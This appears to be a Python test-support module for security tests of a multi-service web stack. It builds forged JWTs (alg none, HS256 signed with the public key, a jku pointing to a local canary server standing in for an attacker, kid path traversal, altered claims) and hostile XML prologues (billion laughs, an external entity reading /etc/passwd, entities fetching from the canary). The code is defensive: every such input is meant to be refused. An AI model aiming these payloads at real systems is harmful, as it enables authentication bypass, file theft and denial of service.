"""What the attack tests share: a running stack with its databases, a canary web server that must
never be called, forged tokens, hostile XML, and the checks every refusal must pass."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import jwt
import requests
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from sqlalchemy import Engine, create_engine, func, select, table

from services.console.accounts import new_account, write_accounts
from services.stack import Stack

PROBLEM = "application/problem+json"
SERVICES = ("registry", "alerts", "transfers")
CONSOLE_PASSWORD = "correct horse battery staple"


@dataclass
class LiveStack:
    """The embedded stack on SQLite, with a console account per test person."""

    stack: Stack
    engines: dict[str, Engine]

    def url(self, service: str) -> str:
        return self.stack.url(service)

    def token(
        self, roles: list[str], subject: str = "tester", jurisdiction: tuple[str, ...] = ("HN",)
    ) -> str:
        return self.stack.issuer.mint(subject, roles, list(jurisdiction))

    def rows(self, service: str, table_name: str) -> int:
        with self.engines[service].connect() as connection:
            return int(connection.execute(select(func.count()).select_from(table(table_name))).scalar_one())

    def answering(self) -> bool:
        return all(requests.get(f"{self.url(s)}/healthz", timeout=5).status_code == 200 for s in SERVICES)


def start_live_stack(folder: Path, console_users: list[tuple[str, list[str]]]) -> LiveStack:
    urls = {name: f"sqlite:///{folder / (name + '.db')}" for name in SERVICES}
    ports = {"registry": 0, "alerts": 0, "transfers": 0, "console": 0}
    stack = Stack(data_dir=folder, ports=ports, database_urls=urls)
    write_accounts(
        stack.accounts_file,
        [new_account(name, name.title(), roles, ["HN"], CONSOLE_PASSWORD) for name, roles in console_users],
    )
    stack.start()
    return LiveStack(stack, {name: create_engine(url) for name, url in urls.items()})


def problem_of(response: requests.Response, status: int) -> dict[str, Any]:
    """The problem document of a refusal with ``status``; fails on anything else."""
    assert response.status_code == status, (response.status_code, response.text[:500])
    assert response.headers["Content-Type"].startswith(PROBLEM), response.headers["Content-Type"]
    document = response.json()
    assert document["status"] == status and document["title"] and document["detail"], document
    return dict(document)


@dataclass
class Canary:
    """A local web server standing for an attacker's: every request it receives is recorded."""

    server: ThreadingHTTPServer
    requests: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


def start_canary() -> Canary:
    calls: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
            calls.append(self.path)
            body = b'<!ENTITY leak "canary">'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return Canary(server, calls)


# -- tokens ---------------------------------------------------------------------------------------


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unsigned(header: dict[str, Any], claims: dict[str, Any]) -> str:
    return _b64(json.dumps(header).encode()) + "." + _b64(json.dumps(claims).encode())


def forged_tokens(stack: Stack, roles: list[str], canary_url: str) -> dict[str, str]:
    """Tokens that must all be refused, by what is wrong with them; each would grant ``roles``."""
    issuer = stack.issuer
    key = serialization.load_pem_private_key(issuer.private_key_path.read_bytes(), password=None)
    kid = issuer.kid()
    now = int(time.time())
    claims: dict[str, Any] = {
        "iss": issuer.issuer,
        "aud": issuer.audience,
        "sub": "intruder",
        "iat": now,
        "nbf": now,
        "exp": now + 600,
        "roles": roles,
        "jurisdiction": ["*"],
    }

    def signed(signing_key: Any = key, headers: dict[str, Any] | None = None, **changes: Any) -> str:
        body = {k: v for k, v in {**claims, **changes}.items() if v is not None}
        return jwt.encode(body, signing_key, algorithm="RS256", headers={"kid": kid, **(headers or {})})

    other_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public_pem = key.public_key().public_bytes(  # type: ignore[union-attr]
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    hs_input = _unsigned({"alg": "HS256", "typ": "JWT", "kid": kid}, claims)
    hs_signature = hmac.new(public_pem, hs_input.encode(), hashlib.sha256).digest()
    auditor_token = signed(roles=["auditor"])
    head, _, signature = auditor_token.split(".")
    return {
        "expired": signed(iat=now - 7200, nbf=now - 7200, exp=now - 120),
        "not yet valid": signed(nbf=now + 600, exp=now + 1200),
        "wrong issuer": signed(iss="https://intruder.example"),
        "wrong audience": signed(aud="another-api"),
        "alg none": _unsigned({"alg": "none", "typ": "JWT", "kid": kid}, claims) + ".",
        "HS256 with the public key": f"{hs_input}.{_b64(hs_signature)}",
        "unknown kid": signed(headers={"kid": "no-such-key"}),
        "kid as a path": signed(headers={"kid": "../../../../dev/null"}),
        "jku to the attacker's keys": jwt.encode(
            claims, other_key, algorithm="RS256", headers={"kid": "intruder", "jku": f"{canary_url}/jwks"}
        ),
        "roles changed after signing": f"{head}.{_b64(json.dumps(claims).encode())}.{signature}",
        "no sub": signed(sub=None),
        "another key under the real kid": signed(signing_key=other_key),
        "signature cut off": signed().rsplit(".", 1)[0] + ".",
        "garbage": "not-a-token",
        "three dots of garbage": "a.b.c",
    }


def authorization_headers(token: str) -> Iterator[tuple[str, dict[str, str]]]:
    """The ways a token (or none) reaches a service besides a proper bearer header."""
    yield "no header", {}
    yield "empty bearer", {"Authorization": "Bearer "}
    yield "basic scheme", {"Authorization": "Basic " + base64.b64encode(b"admin:admin").decode()}
    yield "token without scheme", {"Authorization": token}


# -- hostile XML ----------------------------------------------------------------------------------


def billion_laughs(root: str) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{"".join(f"&lol{n - 1};" for _ in range(10))}">' for n in range(1, 10)
    ]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {root} [{"".join(entities)}]>\n'


def hostile_prologues(root: str, canary_url: str) -> dict[str, str]:
    """Document prologues that try to expand, read or fetch something; ``&x;`` refers to the entity."""
    declaration = f'<?xml version="1.0"?><!DOCTYPE {root}'
    return {
        "billion laughs": billion_laughs(root).replace("lol9", "x"),
        "quadratic blow-up": f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x "{"A" * 100_000}">]>',
        "external entity (file)": f'{declaration} [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "external entity (http)": f'{declaration} [<!ENTITY x SYSTEM "{canary_url}/x">]>',
        "external DTD": f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{canary_url}/x.dtd">',
        "parameter entity": (
            f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY % p SYSTEM "{canary_url}/p.dtd"> %p;]>'
        ),
    }
